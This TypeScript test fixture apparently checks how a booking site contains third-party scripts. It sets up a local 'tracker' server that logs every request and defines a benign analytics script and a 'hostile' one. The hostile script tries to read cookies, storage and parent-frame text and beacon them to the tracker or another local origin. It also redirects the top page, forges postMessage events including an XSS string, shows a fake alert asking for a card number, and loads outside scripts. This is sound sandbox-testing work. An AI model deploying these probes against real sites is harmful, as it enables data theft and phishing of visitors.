import { createServer, type ServerResponse } from 'node:http'

export interface Heard {
  readonly path: string
  readonly search: string
  readonly body: string
  readonly referer: string | undefined
  readonly cookie: string | undefined
  readonly origin: string | undefined
}

/** What the tracker's server does when its script is asked for. */
export type Answer = { readonly script: string } | { readonly status: number } | 'hang'

export interface TrackerServer {
  readonly url: string
  answer: Answer
  /** Every request that reached it, in order. */
  readonly heard: Heard[]
  close(): Promise<void>
}

/** Somebody else's server, at an origin of its own, which writes down all that it is told. */
export async function openTracker(): Promise<TrackerServer> {
  const heard: Heard[] = []
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://tracker.example')
    const { referer, cookie, origin } = request.headers
    let body = ''
    request.on('data', (part) => {
      body += String(part)
    })
    request.on('end', () => {
      heard.push({ path: url.pathname, search: url.search, body, referer, cookie, origin })
      // It would love to know the visitor again.
      response.setHeader('set-cookie', 'known=you; Path=/')
      reply(url.pathname, response)
    })
  })
  const tracker: TrackerServer = {
    url: '',
    answer: { status: 404 },
    heard,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
  function reply(path: string, response: ServerResponse): void {
    const { answer } = tracker
    if (!path.endsWith('.js')) response.writeHead(204).end()
    else if (answer === 'hang') response.flushHeaders()
    else if ('status' in answer) response.writeHead(answer.status).end('broken')
    else response.setHeader('content-type', 'text/javascript').end(answer.script)
  }
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (typeof address !== 'object' || address === null) throw new Error('the server has no port')
  return Object.assign(tracker, { url: `http://127.0.0.1:${address.port}` })
}

/** A decent script of one's own: tells its server each event, those from before it was loaded included. */
export const decent = `
const { src, dataset } = document.currentScript
const tell = (name) => navigator.sendBeacon(new URL('/event', src), dataset.id + ' ' + name)
for (const { event } of dataLayer) tell(event)
addEventListener('ledig', ({ detail }) => tell(detail))
`

/** Tries whatever a script can try, and tells its server how it went: name of the attempt, what came of it. */
export const hostile = `
const { src } = document.currentScript
const home = new URL('/', src).href
const elsewhere = home.replace('127.0.0.1', 'localhost')
const tell = (what, value) => navigator.sendBeacon(home + 'heard', JSON.stringify([what, String(value)]))
const attempt = (what, how) => {
  try { tell(what, how()) } catch (error) { tell(what, 'refused: ' + error.name) }
}
addEventListener('message', ({ data }) => {
  tell('message', JSON.stringify(data))
  if (data === 'booking_completed') location.href = home + 'gone'
})
for (const { event } of dataLayer) tell('message', JSON.stringify(event))
attempt('referrer', () => document.referrer)
attempt('cookie', () => document.cookie)
attempt('set cookie', () => { document.cookie = 'me=1'; return document.cookie })
attempt('real cookie', () => { delete document.cookie; return document.cookie })
attempt('real storage', () => { delete window.localStorage; return localStorage.length })
attempt('storage of a nested frame', () => {
  const blank = document.body.appendChild(document.createElement('iframe'))
  return blank.contentWindow.localStorage.length
})
attempt('database', () => indexedDB.open('x'))
attempt('parent text', () => parent.document.body.textContent)
attempt('parent address', () => parent.location.href)
attempt('top text', () => top.document.title)
attempt('own address', () => location.href)
attempt('window name', () => window.name)
attempt('frame element', () => window.frameElement)
attempt('move the page', () => { top.location = home + 'stolen'; return 'asked' })
attempt('move the parent', () => { parent.location.replace(home + 'stolen'); return 'asked' })
attempt('window', () => window.open(home + 'popup'))
attempt('form', () => {
  const form = document.createElement('form')
  form.action = home + 'form'
  document.body.append(form)
  form.submit()
  return 'asked'
})
attempt('dialog', () => { alert('Your card number, please'); return 'asked' })
attempt('worker', () => new Worker(home + 'worker.js'))
attempt('eval', () => eval('1 + 1'))
for (const data of ['ready', 'ledig', 'booking_completed', '<img src=x onerror=alert(1)>', { ledig: 9 }, null, 7,
  { ctx: {} }, new Array(1000).fill('x')]) {
  parent.postMessage(data, '*')
  top.postMessage(data, '*')
}
setInterval(() => parent.postMessage('booking_completed', '*'), 5)
for (const address of ['/book', '/staff/agenda', elsewhere + 'leak'])
  fetch(address).then((answer) => answer.text()).then((text) => tell('fetch ' + address, text),
    (error) => tell('fetch ' + address, 'refused: ' + error.name))
new Image().src = elsewhere + 'leak'
const other = document.createElement('script')
other.src = elsewhere + 'more.js'
document.head.append(other)
const nested = document.createElement('iframe')
nested.src = home + 'nested'
document.body.append(nested)
throw new Error('and now it falls over')
`
